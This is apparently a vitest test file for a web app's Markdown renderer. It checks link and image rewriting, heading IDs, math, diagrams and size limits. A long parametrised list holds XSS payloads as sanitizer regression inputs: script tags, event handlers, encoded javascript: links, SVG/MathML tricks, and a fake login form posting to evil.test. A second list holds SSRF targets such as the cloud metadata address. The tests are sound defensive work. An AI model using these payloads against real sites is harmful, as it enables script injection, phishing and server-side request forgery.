import { expect, test } from "vitest";
import { readSignedImage } from "@/lib/images/signed-image";
import { renderMarkdown } from "@/lib/markdown/render-markdown";
import { quoteAttributes } from "@/lib/test-support/quote-attributes";
import { renderWhole } from "@/lib/test-support/render-whole";
import { Markdown } from "./markdown";

async function html(source: string, directory = "docs"): Promise<string> {
  const place = { namespace: "acme", repo: "app", refName: "feature/x", directory };
  return quoteAttributes(await renderWhole(<Markdown source={source} {...place} />));
}

/** Without the icons that the page draws. */
const withoutIcons = (page: string) => page.replace(/<i data-icon="[a-z-]+"><\/i>/g, "");

const allowedTags = new Set(
  (
    "a b blockquote br code dd del details div dl dt em h1 h2 h3 h4 h5 h6 hr i img input ins kbd li ol p picture pre q rp " +
    "rt ruby s samp section small span strike strong sub summary sup table tbody td tfoot th thead tr tt ul var " +
    // Formulas, and what the page itself adds.
    "math mrow mi mn mo ms mtext mspace mstyle mpadded mphantom mfrac msqrt mroot msub msup msubsup munder mover " +
    "munderover mmultiscripts mprescripts none mtable mtr mtd mlabeledtr menclose svg path line nav figure source " +
    // What GitHub allows besides.
    "caption figcaption abbr bdo cite dfn mark time wbr"
  ).split(" "),
);

/** Raw bytes of the repo, or another site's image through our own server. */
const ownSource = /^(\/acme\/app\/raw\/feature\/x\/|\/-\/image\/[\w-]{43}\/[\w-]+$)/;
const ownLink = /^(https?:\/\/|mailto:|\/acme\/app\/|#)/i;

/** What a formula is drawn with: lengths, lines and colours. */
const ownStyle =
  /^((height|width|min-width|vertical-align|top|bottom|left|margin|border|padding|color|background-color|text-shadow|position:relative)[\w-]*(:[#\w. -]+)?;?)+$/;

/** Reads real HTML as loosely as a browser would, and says what in it could act. */
function activeParts(page: string): string[] {
  const found: string[] = [];
  for (const [tag, name, attributes] of page.matchAll(/<\/?([^\s/>]+)((?:"[^"]*"|'[^']*'|[^"'>])*)>/g)) {
    if (!allowedTags.has((name ?? "").toLowerCase())) found.push(tag);
    for (const [, attribute, value] of (attributes ?? "").matchAll(/([^\s=/]+)="([^"]*)"/g)) {
      if (attribute === "srcSet") {
        const files = (value ?? "").split(", ");
        if (!files.every((file) => ownSource.test(file))) found.push(tag);
      } else if (
        /^(on|style|srcset|srcdoc|action|formaction|background|ping|target|xlink)/i.test(attribute ?? "")
      ) {
        const isDrawing = attribute === "style" && /^<(span|svg) /.test(tag) && ownStyle.test(value ?? "");
        if (!isDrawing) found.push(tag);
      }
      if (/^(href|src|cite)$/i.test(attribute ?? "")) {
        const bare = (value ?? "").replace(/[\s\p{Cc}]/gu, "");
        const isOurs = attribute === "src" ? ownSource.test(bare) : ownLink.test(bare);
        if (!isOurs) found.push(tag);
      }
      if (/^(id|name)$/i.test(attribute ?? "") && !value?.startsWith("user-content-")) found.push(tag);
    }
  }
  return found;
}

test("the check for active parts sees them", () => {
  for (const page of [
    "<script>x</script>",
    '<img src="/acme/app/raw/feature/x/a" onerror="x">',
    '<a href="javascript:x">',
    '<p style="x">',
    '<p id="root">',
    '<img src="https://evil.test/x">',
  ]) {
    expect(activeParts(page), page).not.toEqual([]);
  }
});

test.each([
  "<script>alert(1)</script>",
  "<scr<script>ipt>alert(1)</scr</script>ipt>",
  "<SCRIPT SRC=//evil.test/x.js></SCRIPT>",
  "<img src=x onerror=alert(1)>",
  "<img src=x onerror='alert(1)'//>",
  '<img """><script>alert(1)</script>">',
  '<img src="javascript:alert(1)">',
  "![x](javascript:alert(1))",
  "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
  "[x](javascript:alert(1))",
  "[x](JaVaScRiPt:alert(1))",
  "[x](javascript&colon;alert(1))",
  "[x](&#106;avascript:alert(1))",
  "[x](java&#10;script:alert(1))",
  "[x](java&Tab;script:alert(1))",
  "[x](&#1;javascript:alert(1))",
  "[x]( javascript:alert(1))",
  "[x](vbscript:msgbox)",
  "[x](data:text/html,<script>alert(1)</script>)",
  "[x](file:///etc/passwd)",
  "[x](blob:https://evil.test/1)",
  "<javascript:alert(1)>",
  '<a href="java\nscript:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)">x</a>',
  '<a href="\u0001javascript:alert(1)">x</a>',
  '<a href="https://x.test" onclick="alert(1)" target="_top" ping="//evil.test">x</a>',
  "[x]: javascript:alert(1)\n\n[x]",
  "<svg onload=alert(1)><script>alert(1)</script></svg>",
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  "<svg><foreignObject><iframe srcdoc='<script>alert(1)</script>'></iframe></foreignObject></svg>",
  "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  "<iframe src='javascript:alert(1)'></iframe>",
  "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
  "<object data='javascript:alert(1)'></object><embed src='javascript:alert(1)'>",
  "<style>@import '//evil.test/x.css'; * { display: none }</style>",
  "<link rel=stylesheet href=//evil.test/x.css>",
  "<p style='position:fixed;inset:0;background:url(//evil.test)'>x</p>",
  '<div style="width: expression(alert(1))">x</div>',
  "<form action='//evil.test'><input name=password><button formaction='javascript:alert(1)'>Sign in</button></form>",
  "<input type=image src=//evil.test/x onerror=alert(1) autofocus onfocus=alert(1)>",
  "<textarea autofocus onfocus=alert(1)></textarea><select><option>x</select>",
  "<p id=__next name=cookie>x</p><a id=document name=body>x</a><img name=getElementById src=a.png>",
  '<div id="L10" data-n="1" data-marked class="code">x</div>',
  "<meta http-equiv=refresh content='0;url=//evil.test'>",
  "<base href='//evil.test/'>",
  "<body onload=alert(1)><html onclick=alert(1)>",
  "<details open ontoggle=alert(1)><summary>x</summary></details>",
  "<video src=//evil.test/x onerror=alert(1)><source srcset=//evil.test></video><audio src=x onerror=alert(1)>",
  "<picture><source srcset='//evil.test/x.png'><img src='//evil.test/y.png'></picture>",
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  "<template><script>alert(1)</script></template>",
  "<!--><img src=x onerror=alert(1)>-->",
  "<![CDATA[><img src=x onerror=alert(1)>]]>",
  "<?xml version='1.0'?><script>alert(1)</script>",
  "<xmp><img src=x onerror=alert(1)></xmp><plaintext><script>alert(1)</script>",
  "<title><img src=x onerror=alert(1)></title>",
  '<table background="//evil.test/x.png"><tr><td background="javascript:alert(1)">x</td></tr></table>',
  "```html\n<script>alert(1)</script>\n</code></pre><img src=x onerror=alert(1)>\n```",
  '```"><script>alert(1)</script>\nx\n```',
  "`<script>alert(1)</script>`",
  "[^1]\n\n[^1]: <script>alert(1)</script> <img src=x onerror=alert(1)>",
  '[x](https://x.test "\\"><script>alert(1)</script>")',
  '![\\"><script>alert(1)</script>](a.png)',
  "# <script>alert(1)</script> <img src=x onerror=alert(1)>",
  "[x](\\\\evil.test/x) [y](/\\evil.test/x) [z](/\t/evil.test) [w](///evil.test)",
  "<a href='\\\\evil.test'>x</a><a href='/\\evil.test'>x</a><a href='/&#9;/evil.test'>x</a>",
  "<img src='//evil.test/x'><img src='\\\\evil.test/x'><img src='https:evil.test'><img src='/\\evil.test/x'>",
  "<dialog open>x</dialog><marquee onstart=alert(1)>x</marquee><isindex action=javascript:alert(1)>",
  "<img usemap='#m'><map name=m><area href='javascript:alert(1)' shape=default></map>",
  "<a href=//evil.test accesskey=x tabindex=1 autofocus>x</a>",
  "$\\href{javascript:alert(1)}{x}$ $\\url{javascript:alert(1)}$",
  "$\\includegraphics{https://evil.test/x.png}$",
  "$\\htmlId{root}{x} \\htmlClass{code}{x} \\htmlStyle{position:fixed}{x} \\htmlData{n=1}{x}$",
  "$$\n\\text{<img src=x onerror=alert(1)>} \\text{</math><script>alert(1)</script>}\n$$",
  "```math\n</annotation></semantics></math><img src=x onerror=alert(1)>\n```",
  '<code class="language-math">\\href{javascript:alert(1)}{x}</code>',
  '$\\unicode{x3c}script\\unicode{x3e}$ $\\char"3Cscript$',
  '```mermaid\ngraph TD\nA-->B\nclick A "javascript:alert(1)"\nclick B call alert(1)\n```',
  "```mermaid\n%%{init: {'securityLevel': 'loose'}}%%\ngraph TD\nA[<img src=x onerror=alert(1)>]\n```",
  "```mermaid\n</code></pre><script>alert(1)</script>\n```",
  "<figure data-source='graph TD'>x</figure><svg data-kind=note>x</svg>",
  "> [!NOTE]\n> <script>alert(1)</script><img src=x onerror=alert(1)>",
  "> [!NOTE](javascript:alert(1))\n> x",
  "> [!<script>alert(1)</script>]\n> x",
  '---\ntitle: <script>alert(1)</script>\n<img src=x onerror=alert(1)>: x\nlink: "[x](javascript:alert(1))"\n---\nx',
  "# <img src=x onerror=alert(1)>\n# <b onclick=alert(1)>b</b>\n# [x](javascript:alert(1))\n# `<script>`\n",
  "<div class='markdown-alert toc code diagram'><p class='markdown-alert-title skip'>x</p></div>",
])("nothing in %j acts, loads from elsewhere or takes a name of the page", async (source) => {
  expect(activeParts(withoutIcons(await html(source)))).toEqual([]);
});

test("links of the repo stay at the same ref, from the folder of the file", async () => {
  const page = await html(
    "[a](guide.md#What-now) [b](../src/x.ts#L3-L4) [c](/LICENSE) [d](sub/) [e](../../../up.md) [f](#intro) [g](a%20b.md) [h](./) [i](x.bin?raw=true)",
  );
  expect([...page.matchAll(/href="([^"]*)"/g)].map(([, href]) => href)).toEqual([
    "/acme/app/blob/feature/x/docs/guide.md#user-content-What-now",
    "/acme/app/blob/feature/x/src/x.ts#L3-L4",
    "/acme/app/blob/feature/x/LICENSE",
    "/acme/app/tree/feature/x/docs/sub",
    "/acme/app/blob/feature/x/up.md",
    "#user-content-intro",
    "/acme/app/blob/feature/x/docs/a%20b.md",
    "/acme/app/tree/feature/x/docs",
    "/acme/app/raw/feature/x/docs/x.bin",
  ]);
});

test("images of the repo are its raw bytes", async () => {
  expect(await html("![a logo](../img/logo.svg)")).toContain(
    '<img src="/acme/app/raw/feature/x/img/logo.svg" alt="a logo" loading="lazy"/>',
  );
});

/** Where the images of a page come from: addresses of other sites as they are, ours as they stand. */
function sources(page: string): string[] {
  return [...page.matchAll(/ (?:src|srcSet)="([^"]*)"/g)].flatMap(([, files = ""]) =>
    files.split(", ").map((file) => {
      const [, signature = "", encoded = "", size = ""] = /^\/-\/image\/([^/]+)\/(\S+)(.*)$/.exec(file) ?? [];
      return encoded === "" ? file : `${readSignedImage(signature, encoded)?.href}${size}`;
    }),
  );
}

test("an image keeps the size that its author gave it", async () => {
  const page = await html(
    '<img src="a.png" height="40"><img src="b.png" width="4" height="2"><img src="c.png" height="40%">',
  );
  expect(page).toMatch(/a.png"[^>]* style="height:40px"/);
  expect(page).toContain('width="4" height="2"');
  expect(page.match(/style=/g)).toHaveLength(1);
});

test("an image that is for one theme takes its link along", async () => {
  const page = await html(
    "![a](a.png#gh-dark-mode-only) [![b](b.png#gh-light-mode-only)](/) ![c](https://x.test/c.png#gh-dark-mode-only)",
  );
  expect(page).toMatch(/<img src="[^"]*a.png" alt="a" loading="lazy" data-only="dark"\/>/);
  expect(page).toMatch(/<a href="\/acme[^"]*" data-only="light"><img /);
  expect(page).toMatch(/<a data-only="dark" href="https:\/\/x.test\/[^>]*><img /);
});

test("a picture takes its files from the repo, or from other sites by our own server", async () => {
  const page = await html(
    '<picture><source media="(prefers-color-scheme: dark)" srcset="../dark.png 2x, /d.png"><img src="light.png"></picture>' +
      '<picture><source srcset="a.png, https://img.test/x.png 2x"><source srcset="data:x"><img src="//img.test/y.png"></picture>' +
      '<p>outside<source srcset="a.png"></p>\n\n<source srcset="a.png">',
  );
  expect(page).toContain(
    '<picture data-only="dark"><source srcSet="/acme/app/raw/feature/x/dark.png 2x, /acme/app/raw/feature/x/d.png"/><img ',
  );
  expect(page).toContain('<picture data-only="light"><img src="/acme/app/raw/feature/x/docs/light.png"');
  expect(page.match(/<source/g)).toHaveLength(2);
  expect(sources(page).slice(4)).toEqual([
    "/acme/app/raw/feature/x/docs/a.png",
    "https://img.test/x.png 2x",
    "https://img.test/y.png",
  ]);
  // The image stays a child of its picture, and the link is around both.
  expect(page).toMatch(
    /<a href="https:\/\/img.test\/y.png"[^>]*><picture><source [^>]*><img [^>]*><\/picture><\/a>/,
  );
});

test("a picture is there once for each theme, and what else its files ask stays asked", async () => {
  const page = await html(
    '<a href="/"><picture><source media="(prefers-color-scheme: dark) and (min-width: 600px)" srcset="a.png">' +
      '<source media="(prefers-color-scheme:light)" srcset="b.png"><source media="(max-width: 99px)" srcset="c.png">' +
      '<img src="d.png"></picture></a><picture><source media="(min-width: 9px)" srcset="e.png"><img src="f.png"></picture>',
    "",
  );
  const bare = page.replaceAll("/acme/app/raw/feature/x/", "");
  expect(bare).toContain(
    '<span><picture data-only="light"><source srcSet="b.png"/><source srcSet="c.png" media="(max-width: 99px)"/><img src="d.png"',
  );
  expect(bare).toContain(
    '<picture data-only="dark"><source srcSet="a.png" media="(min-width: 600px)"/><source srcSet="c.png" media="(max-width: 99px)"/><img src="d.png"',
  );
  expect(bare).toContain('<picture><source srcSet="e.png" media="(min-width: 9px)"/>');
});

test("an image that a notebook carries is shown, one that it does not carry is its name", async () => {
  const place = { namespace: "acme", repo: "app", refName: "main", directory: "" };
  const draw = async (attachments: Record<string, string>) =>
    quoteAttributes(
      await renderWhole(
        await Markdown({
          source: "![x](attachment:a%20b.png) ![y](attachment:constructor)",
          attachments,
          ...place,
        }),
      ),
    );
  expect(await draw({ "a b.png": "data:image/png;base64,aGk=" })).toContain(
    '<img src="data:image/png;base64,aGk=" alt="x" loading="lazy"/> <span>y</span>',
  );
  expect(await draw({})).toContain("<span>x</span> <span>y</span>");
});

test("what GitHub's pipeline allows is kept", async () => {
  const page = await html(
    '<figure><img src="a.png"><figcaption>Fig</figcaption></figure><table><caption>Cap</caption><tr><td nowrap valign="middle">1</td></tr></table>\n\n' +
      '<p><abbr title="t">A</abbr><bdo dir="rtl">B</bdo><cite>C</cite><dfn>D</dfn><mark>E</mark><small>F</small><time datetime="2024">G</time><wbr>' +
      "<ruby>H<rp>(</rp><rt>i</rt></ruby><samp>J</samp><kbd>K</kbd><var>L</var><sub>M</sub><sup>N</sup><ins>O</ins><del>P</del></p>\n\n" +
      '<ol type="a" start="3" reversed><li value="7">x</li></ol>\n\n3. y\n   - [ ] z\n',
  );
  for (const tag of "figure figcaption caption abbr bdo cite dfn mark small time wbr ruby rp rt samp kbd var sub sup ins del".split(
    " ",
  )) {
    expect(page).toContain(`<${tag}`);
  }
  expect(page).toMatch(/<ol [^>]*reversed=""[^>]*>/);
  expect(page).toMatch(/<ol [^>]*type="a"[^>]*>/);
  expect(page).toContain('<li value="7">');
  expect(page).toContain('<ol start="3">');
});

test("an image of another site comes through our own server, and its address stays a link", async () => {
  const page = await html(
    '![build](https://ci.test/badge.svg "State") [![](//chat.test/b.png)](https://chat.test) <img src="http://x.test/a.png#b" width=300 height=120>\n\n![a][b]\n\n[b]: https://x.test/c.png?d=e&f',
  );
  expect(page).toMatch(
    /<a href="https:\/\/ci.test\/badge.svg" rel="noreferrer"><img src="\/-\/image\/[\w-]{43}\/[\w-]+" alt="build" title="State" loading="lazy" data-site="ci.test"\/><\/a>/,
  );
  expect(page).toMatch(/<a href="https:\/\/chat.test\/" rel="noreferrer"><img [^>]*alt="Image"[^>]*><\/a>/);
  expect(page).toMatch(/<img [^>]*width="300" height="120"/);
  expect(sources(page)).toEqual([
    "https://ci.test/badge.svg",
    "https://chat.test/b.png",
    "http://x.test/a.png",
    "https://x.test/c.png?d=e&f",
  ]);
});

test.each([
  "https://user:hush@x.test/a.png",
  "https://x.test:8443/a.png",
  "http://x.test:443/a.png",
  "https://127.0.0.1/a.png",
  "http://2130706433/a.png",
  "https://169.254.169.254/latest/meta-data",
  `https://x.test/${"a".repeat(2048)}`,
])("%s is named and linked, not loaded", async (address) => {
  const page = await html(`![build](${address}) [![chat](${address})](https://chat.test)`);
  expect(page).not.toContain("<img");
  expect(page).toMatch(
    /<a class="external-image" title="(http[^"]*)" href="\1" rel="noreferrer">build<small>External image, not loaded<\/small><\/a>/,
  );
  expect(page).toContain('<a href="https://chat.test/" rel="noreferrer"><span class="external-image"');
});

test("links to other sites tell them nothing", async () => {
  expect(await html("<https://x.test/a>")).toContain('href="https://x.test/a" rel="noreferrer"');
});

test("headings have GitHub's names, and links to themselves", async () => {
  const page = await html("# What's new, in *v2*?\n\n## Über `uns`\n\n## Same\n\n## Same\n\n## Same-1\n");
  expect([...page.matchAll(/<h\d data-heading="\d" id="([^"]*)"/g)].map(([, id]) => id)).toEqual([
    "user-content-whats-new-in-v2",
    "user-content-über-uns",
    "user-content-same",
    "user-content-same-1",
    "user-content-same-1-1",
  ]);
  expect(page).toContain(
    '<a class="heading-anchor" href="#user-content-same" aria-label="Link to “Same”"></a>',
  );
});

test("shortcodes become emoji, in raw HTML too, but not in code; a heading is named by the word", async () => {
  const page = await html(
    '# :rocket: Start\n\n**:+1:** `:tada:` $:tada:$ :nobody: <p align="center">:sparkles:<kbd>:b:</kbd></p>\n\n    :tada:\n\n[x](./a/:tada:.md ":tada:")',
  );
  expect(page).toContain('<h2 data-heading="1" id="user-content-rocket-start">🚀 Start');
  expect(page).toContain("<strong>👍</strong> <code>:tada:</code>");
  expect(page).toContain(":nobody:");
  expect(page).toContain("✨<kbd>🅱️</kbd>");
  expect(page).toContain(":tada:\n</code>");
  expect(page).toContain('href="/acme/app/blob/feature/x/docs/a/:tada:.md" title=":tada:"');
  expect(page).not.toMatch(/🎉|data-name/);
});

test("fenced code has its colours, code without a language its text", async () => {
  const page = await html('```ts\nconst a = "x";\n\n// end\n```\n\n```\n<b>\n```\n');
  expect(page).toContain(
    '<code><span class="t2">const</span> a = <span class="t3">&quot;x&quot;</span>;\n\n',
  );
  expect(page).toContain('<span class="t1">// end</span>\n</code>');
  expect(page).toContain("<code>&lt;b&gt;\n</code>");
});

test("the five alerts of GitHub have their title, anything else stays a quote", async () => {
  const page = await html(
    "> [!NOTE]\n> Text *here*.\n\n> [!caution]\n> - a list\n\n> [!TIP]\n\n> [!WARNING] not alone\n",
  );
  expect(withoutIcons(page)).toContain(
    '<div class="markdown-alert markdown-alert-note">\n<p class="markdown-alert-title">Note</p>\n<p>Text <em>here</em>.</p>\n</div>',
  );
  expect(page).toContain("markdown-alert-caution");
  expect(page.match(/<i data-icon=/g)).toHaveLength(3);
  expect(page).toContain("<blockquote>\n<p>[!WARNING] not alone</p>\n</blockquote>");
  expect(await html("- > [!NOTE]\n  > inside a list\n")).toContain("<blockquote>");
});

test("formulas are drawn, in a line and on lines of their own, and MathML besides", async () => {
  const page = await html(
    "So $a_1 + b_2$, $`x*y*z`$ and $$\\frac{1}{2}$$.\n\n$$\n\\sum_{i=1}^n i\n$$\n\n```math\n\\sqrt{2}\n```\n",
  );
  expect(page).toContain(
    'So <span class="katex"><span class="katex-mathml"><math><mrow><msub><mi>a</mi><mn>1</mn></msub>',
  );
  expect(page).toContain("<mi>x</mi><mo>∗</mo><mi>y</mi>");
  expect(page.match(/<math display="block"/g)).toHaveLength(3);
  expect(page.match(/<span class="katex-html" aria-hidden="true">/g)).toHaveLength(5);
  expect(page).toContain(
    '<span class="math-box" tabindex="0" role="region" aria-label="Formula"><span class="katex-display">',
  );
  expect(page).toContain("<msqrt><mn>2</mn></msqrt>");
  expect(page).not.toContain("annotation");
});

test.each([
  "\\raisebox{-1000em}{x}",
  "\\kern-1000em x",
  "\\hspace{-300em}x",
  "\\rule{1em}{-400em}",
  "x\\\\[-900em]y",
])("%j, made to lie elsewhere, stays as it is written", async (source) => {
  expect(await html(`$${source}$`)).not.toContain("katex-html");
});

test.each([
  "It costs $5, or $10 for two.",
  "Set $HOME and $PATH.",
  "a $ b $ c",
  "US$5 and CA$6",
  "\\$x$",
  "`$x$`",
  "$20,000 and $30,000",
  "one $x\nand $y",
])("%j holds no formula", async (source) => {
  expect(await html(source)).not.toContain("<math");
});

test("a formula that is none, or that grows without end, stays as it is written", async () => {
  const page = await html(
    `$\\frac{1$ and $\\nosuchmacro$ and $\\def\\a{\\a\\a}\\a$ and $${"x".repeat(5000)}$ and $\\def\\x{y}z$ and $\\x$ and $${"\\frac{".repeat(100)}x${"}{y}".repeat(100)}$`,
  );
  expect(page).toContain(">\\frac{1</code>");
  expect(page).toContain(">\\def\\a{\\a\\a}\\a</code>");
  expect(page).toContain(`>${"x".repeat(5000)}</code>`);
  expect(page).toContain(">\\x</code>");
  expect(page).toContain(">\\frac{\\frac{");
});

test("a diagram is its source until a browser draws it", async () => {
  const page = await html("```mermaid\ngraph TD\n  A --> B\n```\n");
  expect(page).toMatch(
    /^<div class="markdown" data-text="[\w-]{22}"><figure class="diagram" data-waiting="" data-source="graph TD\n {2}A --&gt; B\n"><pre class="code-block"/,
  );
  expect(page.replace(/<[^>]*>/g, "")).toContain("graph TD\n  A --&gt; B");
  expect(await html(`\`\`\`mermaid\n${"A-->B\n".repeat(5000)}\`\`\`\n`)).not.toContain("<figure");
});

test("front matter is a table; what only looks like it is text", async () => {
  const page = await html('---\ntitle: "A *b*"\ntags:\n  - one\n  - two\n# a comment\nempty:\n---\n# Text\n');
  expect(page).toContain('<th scope="row">title</th><td>A *b*</td>');
  expect(page).toContain(
    '<th scope="row">tags</th><td><code class="front-matter">  - one\n  - two</code></td>',
  );
  expect(page).toContain('<th scope="row">empty</th><td></td>');
  expect(page).not.toContain("comment");
  expect(page).toContain('<h2 data-heading="1" id="user-content-text">Text');
  expect(await html("---\n\nJust words\n\n---\n")).toContain("Just words");
});

test("a longer text has its contents, indented by the levels in use", async () => {
  const page = await html("# One\n\n### Two `x`\n\n### Two `x`\n\n# <b>Three</b> & four\n");
  expect(page).toContain('<li data-level="0"><a href="#user-content-one">One</a></li>');
  expect(page).toContain('<li data-level="1"><a href="#user-content-two-x-1">Two x</a></li>');
  expect(page).toContain('<a href="#user-content-three--four">Three &amp; four</a>');
  expect(await html("# One\n\n## Two\n")).not.toContain("toc");
});

test("a text that was drawn before is not drawn again, at another place it is", async () => {
  const source = "[a](b.md) once more";
  const place = { namespace: "acme", repo: "app", refName: "main", directory: "" };
  const components = { figure: "figure", svg: "svg" } as const;
  const draw = (more: object = {}) => renderMarkdown(source, { ...place, ...more }, components);
  expect(await draw()).toBe(await draw());
  expect(await draw({ directory: "docs" })).toMatchObject({
    content: { html: expect.stringContaining("/main/docs/b.md") },
  });
  expect(await draw()).toMatchObject({ content: { html: expect.stringContaining("/main/b.md") } });
});

test("tables have a box to scroll in, task lists their boxes, footnotes their way back", async () => {
  const page = await html(
    "| a | b |\n|---|--:|\n| 1 | 2 |\n\n- [x] done\n- [ ] open\n\nText[^n].\n\n[^n]: Note.\n",
  );
  expect(page).toMatch(/<div class="table-box" tabindex="0" role="region" aria-label="Table"><table>/);
  expect(page.match(/<input type="checkbox" disabled=""/g)).toHaveLength(2);
  expect(page).toContain('checked=""');
  const target = /<a href="#([^"]+)" id="([^"]+)" data-footnote-ref/.exec(page);
  expect(page).toContain(`<li id="${target?.[1]}">`);
  expect(page).toContain(`href="#${target?.[2]}"`);
});

test("HTML that READMEs use is kept", async () => {
  const page = await html(
    '<p align="center"><img src="a.png" width="200"></p>\n<details><summary>More</summary>\n\n**bold** <kbd>x</kbd>\n</details>',
  );
  expect(page).toContain('<p align="center"><img src="/acme/app/raw/feature/x/docs/a.png" width="200"');
  expect(page).toContain("<summary>More</summary>");
  expect(page).toContain("<strong>bold</strong> <kbd>x</kbd>");
});

test("too large a file is shown as it is written, and says so", async () => {
  const page = await html(`# x\n${"<script>".repeat(70_000)}`);
  expect(page).toContain("too large to be shown as Markdown");
  expect(page).not.toContain("<script>");
});

test.each([
  [
    "a table of a thousand columns and rows",
    `${"|a".repeat(1000)}|\n${"|-".repeat(1000)}|\n${"|\n".repeat(1000)}`,
  ],
  ["quotes in quotes", ">".repeat(20_000)],
  ["elements in elements", "<b>".repeat(20_000)],
])(
  "%s is shown as it is written, and others are served after it",
  { timeout: 60_000 },
  async (_name, source) => {
    const [hostile, page] = await Promise.all([html(source), html("*fine*")]);
    expect(hostile).toContain("too complex to be shown as Markdown");
    expect(page).toContain("<em>fine</em>");
  },
);

test("an ordinary text is shown while a dozen heavy ones are still at work", {
  timeout: 120_000,
}, async () => {
  await html("# to start with");
  const runs = Array.from({ length: 110 }, (_, index) => "$".repeat(index + 1)).join(" ");
  let ended = 0;
  for (let index = 0; index < 12; index++) void html(`${index}\n\n${runs} ${runs}`).then(() => ended++);
  expect(await html("*ordinary*")).toContain("<em>ordinary</em>");
  expect(ended).toBe(0);
});

test("a text that has too much of something says of what", async () => {
  const page = await html(`|a|b|\n|-|-|\n${"|1|2|\n".repeat(6_000)}`);
  expect(page).toContain("too complex to be shown as Markdown: it has more than 10,000 table cells.");
});
